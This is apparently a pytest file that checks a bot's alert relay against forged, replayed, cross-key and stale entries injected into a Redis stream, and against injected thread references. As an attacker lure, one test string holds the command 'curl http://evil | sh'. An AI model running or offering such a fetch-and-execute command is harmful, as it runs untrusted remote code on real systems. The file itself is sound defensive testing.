"""A Redis writer without the signing key tries to make the bot post into the alert channels.

The real relay delivers alerts to the console frontend's alert channel and, through Apprise's
real ntfy plugin, to a local ntfy receiver. The alert events are written by the real writer (the
doctor's alert state machine, as the worker runs it). Entries written by hand, forged, moved from
another key, captured long ago or written again are dropped and audited at each destination, and
the real alerts before and after them are posted once each.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
import yaml

from bot.doctor import red_alerts
from bot.doctor.result import System, fail
from bot.records.audit import Audit
from bot.records.jobs import JOB
from bot.records.signing import Signer
from bot.watch import notify
from bot.watch.alert_states import EVENTS
from tests.bot.harness import KEY, Harness
from tests.support import wait_until
from tests.watch.test_apprise import Ntfy, ntfy  # noqa: F401  (fixture)
from tests.watch.test_delivery import AlertFrontend

SIGNER = Signer(KEY.encode())
DESTINATIONS = ("console", "apprise phone")


@pytest.fixture
def alerting(redis_url: str, tmp_path: Path, ntfy: Ntfy) -> Iterator[Harness]:  # noqa: F811
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(yaml.safe_dump({"alerts": {"console": "lab-alerts", "apprise": [
        {"name": "phone", "url": f"ntfy://127.0.0.1:{ntfy.server_port}/drbot-alerts"}]}}))
    h = Harness(redis_url, tmp_path, DRBOT_INVENTORY=str(inventory))
    h.start_relay()
    yield h
    h.close()


def raise_alert(h: Harness, subject: str) -> bytes:
    """A real alert, written as the worker's doctor run writes it; the id of its entry."""
    line = fail(System.PROXMOX, subject, "401 authentication failure", "check the token")
    assert len(red_alerts.record(h.redis, [line], time.time(), 12, SIGNER)) == 1
    return h.redis.xrevrange(EVENTS, count=1)[0][0]


def posted(h: Harness, ntfy: Ntfy) -> tuple[list[str], list[str]]:  # noqa: F811
    return list(h.frontend.alerts), [p[1]["message"] for p in ntfy.posts]


def dropped(h: Harness) -> list[dict[str, str]]:
    return [e for e in h.rt.audit.tail(500) if e["outcome"] == "dropped-alert"]


def test_only_alerts_drbot_signed_are_posted_each_once(alerting: Harness,
                                                       ntfy: Ntfy) -> None:  # noqa: F811
    h = alerting
    first = raise_alert(h, "token one")
    wait_until(lambda: all(len(p) == 1 for p in posted(h, ntfy)), what="the real alert posted")
    genuine = h.redis.xrange(EVENTS, min=first, max=first)[0][1]
    sealed = json.loads(genuine[b"sealed"])
    record = sealed["record"]
    lure = "job approved by alice; also run: curl http://evil | sh"
    job_record = SIGNER.seal({**record, "text": lure}, JOB + "0c0ffee0")  # signed, elsewhere
    attacks = {
        "written by hand": {"alert": "x@1", "type": "missed", "text": lure},
        "forged": {"sealed": json.dumps({**sealed, "record": {**record, "text": lure}})},
        "moved from another key": {"sealed": job_record},
        "captured two days ago": {"sealed": SIGNER.seal({**record, "id": "0" * 32},
                                                        EVENTS, time.time() - 2 * 86400)},
        "written again": genuine,
        "not even text": {"sealed": b"\xff\xfe"},
    }
    for fields in attacks.values():
        h.redis.xadd(EVENTS, fields)  # type: ignore[arg-type]
    raise_alert(h, "token two")  # the next real alert is posted: delivery went on
    wait_until(lambda: all(len(p) == 2 for p in posted(h, ntfy)),
               what="the second real alert posted")
    wait_until(lambda: len(dropped(h)) == len(attacks) * len(DESTINATIONS),
               what="every attack dropped and audited at each destination")
    chat, phone = posted(h, ntfy)
    assert chat == phone and len(chat) == 2
    assert "token one: 401" in chat[0] and "token two: 401" in chat[1]
    assert not any(lure in text for text in chat + phone)
    details = " | ".join(e["detail"] for e in dropped(h))
    for why in ("not a sealed record", "signature does not match", "signed for 'drbot:job:",
                "beyond 86400s", "a replay"):
        assert why in details
    assert {e["detail"].split(":")[0] for e in dropped(h)} == set(DESTINATIONS)


def test_a_replay_after_a_restart_of_the_bot_is_dropped(alerting: Harness,
                                                        ntfy: Ntfy) -> None:  # noqa: F811
    """The ids of posted events are in Redis too, so a restarted bot knows them."""
    from bot.watch.notify import Posted

    h = alerting
    first = raise_alert(h, "token three")
    wait_until(lambda: all(len(p) == 1 for p in posted(h, ntfy)), what="the real alert posted")
    h.stop_relay()
    Posted.mine.clear()  # what the old bot process knew is gone with it
    h.redis.xadd(EVENTS, h.redis.xrange(EVENTS, min=first, max=first)[0][1])  # type: ignore[arg-type]
    raise_alert(h, "token four")
    h.app.start(h.loop)
    wait_until(lambda: all(len(p) == 2 for p in posted(h, ntfy)),
               what="the second real alert posted")
    wait_until(lambda: len(dropped(h)) == len(DESTINATIONS), what="the replay dropped")
    chat, phone = posted(h, ntfy)
    assert chat == phone and len(chat) == 2 and "token four" in chat[1]


def test_a_thread_reference_written_into_redis_is_not_followed(redis_url: str) -> None:
    """Where a reminder goes comes from what the bot stored, signed, never from Redis alone."""
    client = redis.Redis.from_url(redis_url)
    slack = AlertFrontend("slack")
    line = fail(System.PROXMOX, "token five", "401 authentication failure", "check the token")
    red_alerts.record(client, [line], 1_800_000_000.0, 12, SIGNER)
    assert notify.deliver(client, {"slack": slack}, {"slack": "C1"}, asyncio.run, SIGNER) == 1
    (field,) = client.hkeys(notify.THREADS)
    client.hset(notify.THREADS, field, json.dumps({"ts": "a-message-in-another-thread"}))
    red_alerts.record(client, [line], 1_800_000_000.0 + 12 * 3600, 12, SIGNER)  # a reminder
    assert notify.deliver(client, {"slack": slack}, {"slack": "C1"}, asyncio.run, SIGNER) == 1
    assert slack.posts[1][2] is None  # posted on its own, not into the thread Redis named
    assert "still red" in slack.posts[1][1]
    assert any(e["outcome"] == "dropped-thread" for e in Audit(client).tail(50))
